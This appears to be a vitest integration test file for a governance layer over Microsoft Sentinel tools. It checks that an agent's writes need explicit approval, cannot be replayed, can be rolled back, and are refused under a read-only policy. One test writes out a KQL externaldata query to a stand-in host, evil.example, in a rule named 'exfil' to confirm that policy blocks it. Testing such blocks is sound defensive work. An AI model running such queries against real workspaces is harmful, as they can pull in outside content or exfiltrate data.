import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { decideApproval } from "../../src/cli/commands/approvals.js";
import { openRuntime } from "../../src/server/runtime.js";
import { TOOLS } from "../../src/tools/registry.js";
import { toolNameFor } from "../../src/tools/types.js";
import type { WorkPolicyContract } from "../../src/types/wpc.js";
import { SAVED_SEARCHES } from "../../src/workspace/seed-hunting.js";
import { makeHome, startSession, type TestHome } from "../helpers/home.js";
import { signTestPolicy } from "../helpers/policy.js";
import { receiptsOf, textOf } from "../helpers/state.js";

type Session = Awaited<ReturnType<typeof startSession>>;

const READ_OPS = TOOLS.filter((t) => t.effects.readOnly && !t.op.startsWith("governance.")).map((t) => t.op);
const WRITE_OPS = TOOLS.filter((t) => !t.effects.readOnly).map((t) => t.op);

/** Every op allowed, every write behind an explicit approval: the catalog end to end. */
const ADMIN: WorkPolicyContract = {
  wpc_version: "v1",
  policy_name: "test-admin-with-approvals",
  allow: [{ tool: "sentinel.api", ops: [...READ_OPS, ...WRITE_OPS] as [string, ...string[]] }],
  approvals: [{ name: "admin-approval", required_for: WRITE_OPS as [string, ...string[]], mode: "explicit" }],
  token_requirements: { cst_ttl_seconds_max: 900, require_policy_hash_pinning: true },
  constraints: { "*": { max_rows: 25 } },
};

describe("the whole operation catalog over stdio", () => {
  let h: TestHome;
  let s: Session;
  let incidentId: string;
  let ruleId: string;
  let automationId: string;

  const call = (name: string, args: Record<string, unknown>) => s.client.callTool({ name, arguments: args });
  /** A gated write: refused with approval_required, approved by the approver key, then executed once. */
  const approvedWrite = async (op: string, args: Record<string, unknown>) => {
    const first = await call(toolNameFor(op), args);
    expect(textOf(first), op).toContain("approval_required");
    const id = /apr_[0-9a-f]{16}/.exec(textOf(first))![0];
    await decideApproval(h.home, id, "approved", `test approves ${op}`);
    const ok = await call(toolNameFor(op), args);
    expect(ok.isError, `${op}: ${textOf(ok)}`).toBeFalsy();
    const replay = await call(toolNameFor(op), args);
    expect(textOf(replay), `${op} replay`).toContain("approval_required");
    return ok.structuredContent as Record<string, never>;
  };
  const rollbackLast = async (op: string) => {
    const intent = receiptsOf(h)
      .filter((r) => r.op === op && r.phase === "intent")
      .at(-1)!;
    const runtime = await openRuntime({ home: h.home, policyRef: intent.policy_hash });
    try {
      const r = await runtime.rollback(intent.receipt_id, "test-operator");
      expect(r.isError, `${op} rollback: ${textOf(r)}`).toBeFalsy();
    } finally {
      await runtime.close();
    }
  };

  beforeAll(async () => {
    h = await makeHome();
    s = await startSession(h, { policyFile: signTestPolicy(h, ADMIN), job: "job-admin" });
    const list = await call("sentinel_incidents_list", { status: "New", top: 5 });
    incidentId = (list.structuredContent as { incidents: { id: string }[] }).incidents[0]!.id;
    const rules = await call("sentinel_analyticsRules_list", {});
    if (!rules.structuredContent) throw new Error(textOf(rules));
    ruleId = (rules.structuredContent as { rules: { id: string }[] }).rules[0]!.id;
    const autos = await call("sentinel_automationRules_list", {});
    automationId = (autos.structuredContent as { rules: { id: string }[] }).rules[0]!.id;
  });
  afterAll(async () => {
    await s?.close();
  });

  it("lists every tool of the catalog", async () => {
    const { tools } = await s.client.listTools();
    expect(tools.map((t) => t.name).sort()).toEqual(TOOLS.map((t) => toolNameFor(t.op)).sort());
  });

  it("every read op answers with data that matches its output schema", async () => {
    const ents = await call("sentinel_incidents_entities", { incidentId });
    const entityId = (ents.structuredContent as { entities: { id: string }[] }).entities[0]!.id;
    const tpls = await call("sentinel_alertRuleTemplates_list", {});
    const templateId = (tpls.structuredContent as { templates: { id: string }[] }).templates[0]!.id;
    const args: Record<string, Record<string, unknown>> = {
      "incidents.get": { incidentId },
      "incidents.alerts": { incidentId },
      "incidents.entities": { incidentId },
      "incidents.comments.list": { incidentId },
      "analyticsRules.get": { ruleId },
      "watchlists.items": { watchlistAlias: "HighValueAssets" },
      "kql.query": { query: "SigninLogs | summarize count() by ResultType", timespan: "P1D" },
      "kql.validate": { query: "SigninLogs | take 1" },
      "tables.schema": { table: "SecurityAlert" },
      "entities.get": { entityId },
      "entities.timeline": { entityId },
      "entities.insights": { entityId },
      "alertRuleTemplates.get": { templateId },
      "huntingQueries.run": { savedSearchId: SAVED_SEARCHES[0]!.id, timespan: "P1D" },
    };
    for (const op of READ_OPS) {
      const r = await call(toolNameFor(op), args[op] ?? {});
      expect(r.isError, `${op}: ${textOf(r)}`).toBeFalsy();
    }
    const items = await call("sentinel_watchlists_items", { watchlistAlias: "HighValueAssets" });
    expect((items.structuredContent as { items: unknown[] }).items).toHaveLength(3);
  });

  it("incidents.update: approval, change, replay refused, rollback restores", async () => {
    const before = (await call("sentinel_incidents_get", { incidentId })).structuredContent as {
      incident: { severity: string; labels: string[] };
    };
    const out = await approvedWrite("incidents.update", { incidentId, severity: "Low", labels: ["agent-reviewed"] });
    expect(out.incident).toMatchObject({ severity: "Low", labels: ["agent-reviewed"] });
    await rollbackLast("incidents.update");
    const after = (await call("sentinel_incidents_get", { incidentId })).structuredContent as {
      incident: { severity: string; labels: string[] };
    };
    expect(after.incident.severity).toBe(before.incident.severity);
    expect(after.incident.labels).toEqual(before.incident.labels);
  });

  it("incidents.comments.add: supersede on rollback keeps the original and adds a correction", async () => {
    await approvedWrite("incidents.comments.add", {
      incidentId,
      message: "Agent note: spray source blocked at the firewall.",
    });
    await rollbackLast("incidents.comments.add");
    const comments = (await call("sentinel_incidents_comments_list", { incidentId })).structuredContent as {
      comments: { message: string }[];
    };
    expect(comments.comments.map((c) => c.message)).toEqual(
      expect.arrayContaining([expect.stringContaining("Agent note"), expect.stringContaining("Correction:")]),
    );
  });

  it("analyticsRules.create / update / disable with rollback", async () => {
    const created = await approvedWrite("analyticsRules.create", {
      displayName: "Agent: many blocked tool calls",
      severity: "Medium",
      query: "SigninLogs | where ResultType != '0' | summarize count() by IPAddress",
      queryFrequency: "PT1H",
      queryPeriod: "PT1H",
      triggerOperator: "GreaterThan",
      triggerThreshold: 5,
    });
    const newId = (created.rule as unknown as { id: string; enabled: boolean }).id;
    expect((created.rule as unknown as { enabled: boolean }).enabled).toBe(false);
    await rollbackLast("analyticsRules.create");
    const gone = await call("sentinel_analyticsRules_get", { ruleId: newId });
    expect(textOf(gone)).toContain("404");

    await approvedWrite("analyticsRules.update", { ruleId, triggerThreshold: 42 });
    await rollbackLast("analyticsRules.update");
    const restored = (await call("sentinel_analyticsRules_get", { ruleId })).structuredContent as {
      rule: { triggerThreshold: number; enabled: boolean };
    };
    expect(restored.rule.triggerThreshold).toBe(0);

    const disabled = await approvedWrite("analyticsRules.disable", { ruleId, reason: "noisy during test" });
    expect((disabled.rule as unknown as { enabled: boolean }).enabled).toBe(false);
    await rollbackLast("analyticsRules.disable");
    expect(
      ((await call("sentinel_analyticsRules_get", { ruleId })).structuredContent as { rule: { enabled: boolean } }).rule
        .enabled,
    ).toBe(true);
  });

  it("a rule query is analysed by policy like kql.query: forbidden constructs are refused before approval", async () => {
    const r = await call("sentinel_analyticsRules_create", {
      displayName: "exfil",
      severity: "Low",
      query: "externaldata(x:string)[@'https://evil.example/x']",
      queryFrequency: "PT1H",
      queryPeriod: "PT1H",
      triggerOperator: "GreaterThan",
      triggerThreshold: 0,
    });
    expect(textOf(r)).toContain("kql_forbidden_construct");
  });

  it("automationRules.update / disable with rollback", async () => {
    await approvedWrite("automationRules.update", { ruleId: automationId, order: 9 });
    await rollbackLast("automationRules.update");
    await approvedWrite("automationRules.disable", { ruleId: automationId, reason: "test" });
    await rollbackLast("automationRules.disable");
    const rules = (await call("sentinel_automationRules_list", {})).structuredContent as {
      rules: { id: string; order: number; enabled: boolean }[];
    };
    expect(rules.rules.find((r) => r.id === automationId)).toMatchObject({ order: 1, enabled: true });
  });

  it("watchlists.items.add with rollback by delete", async () => {
    await approvedWrite("watchlists.items.add", {
      watchlistAlias: "HighValueAssets",
      values: { Hostname: "SRV-NEW01", Owner: "agent" },
    });
    expect(
      (
        (await call("sentinel_watchlists_items", { watchlistAlias: "HighValueAssets" })).structuredContent as {
          items: unknown[];
        }
      ).items,
    ).toHaveLength(4);
    await rollbackLast("watchlists.items.add");
    expect(
      (
        (await call("sentinel_watchlists_items", { watchlistAlias: "HighValueAssets" })).structuredContent as {
          items: unknown[];
        }
      ).items,
    ).toHaveLength(3);
  });

  it("under triage-readonly every write is refused and never executed", async () => {
    const t = await startSession(h, { job: "job-triage" });
    try {
      for (const op of WRITE_OPS) {
        const r = await t.client.callTool({ name: toolNameFor(op), arguments: {} });
        expect(r.isError, op).toBe(true);
      }
      const writes = receiptsOf(h).filter((r) => r.job === "job-triage");
      expect(writes).toHaveLength(WRITE_OPS.length);
      expect(writes.every((r) => r.outcome.status === "refused" && r.phase === "single")).toBe(true);
    } finally {
      await t.close();
    }
  });
});
